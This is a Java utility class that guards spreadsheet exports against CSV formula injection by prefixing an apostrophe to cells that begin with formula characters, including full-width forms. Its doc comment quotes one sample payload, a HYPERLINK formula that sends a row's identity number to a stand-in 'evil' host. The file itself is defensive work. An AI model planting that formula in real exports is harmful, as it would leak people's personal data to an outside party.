package cn.chengxin.shared.files;

/**
 * Keeps text that came from an upload or was typed by a person (a row's field, a department's name or code) from
 * becoming a formula when a clerk opens a file the platform hands out (an ingestion error report, the yearly
 * progress report) in Excel or WPS ("CSV injection": {@code =HYPERLINK("http://evil/?"&A1,"点击")} sends the row's
 * identity number away). Every CSV or XLSX export writes its text cells through it.
 * Following the OWASP guidance, a cell that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a
 * carriage return gets a leading apostrophe, which spreadsheets show as text. The full-width forms
 * ({@code ＝ ＋ － ＠}) are treated the same, since input methods produce them and some spreadsheet programs
 * accept them as formula starts. Negative numbers also get the apostrophe: a report is read, not computed.
 */
public final class FormulaNeutraliser {

    private FormulaNeutraliser() {
    }

    /** {@code text} safe to put in a spreadsheet cell; {@code null} becomes {@code ""}. */
    public static String neutralise(String text) {
        if (text == null || text.isEmpty()) {
            return "";
        }
        return switch (text.charAt(0)) {
            case '=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠' -> "'" + text;
            default -> text;
        };
    }
}
